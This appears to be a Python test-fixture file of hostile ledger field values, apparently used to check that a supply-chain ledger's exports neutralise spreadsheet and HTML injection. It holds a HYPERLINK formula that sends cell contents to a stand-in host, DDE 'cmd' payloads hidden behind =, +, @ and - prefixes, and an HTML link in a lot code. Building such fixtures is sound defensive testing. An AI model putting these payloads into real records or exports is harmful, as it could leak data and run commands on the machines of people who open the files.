"""Text an attacker with a staff account (or a partner's system) can put on the ledger."""

GTIN = "04006381333931"
DESCRIPTION = '=HYPERLINK("http://e.il/?"&B2&E2,"Recall details")'
FARM = "=cmd|'/C calc'!A0"
HUB_NAME = "+SUM(1+1)*cmd|'/C calc'!A0"
STORE_NAME = "@SUM(1+1)*cmd|'/C calc'!A0"
NOTES = "-2+3+cmd|'/C calc'!A0"
QUOTED_NOTES = "'=already quoted by its author"  # must come back with exactly one quote
TAB_NOTES = "\t=1+1"
ANGLE_LOT = "A<B"  # legal in GS1 lot codes (CSET 82)
LINK_LOT = "<a href=//e.il>Z</a>"  # 20 characters: the longest lot the chaincode takes
S1, S2 = "306141410000000013", "306141410000000020"
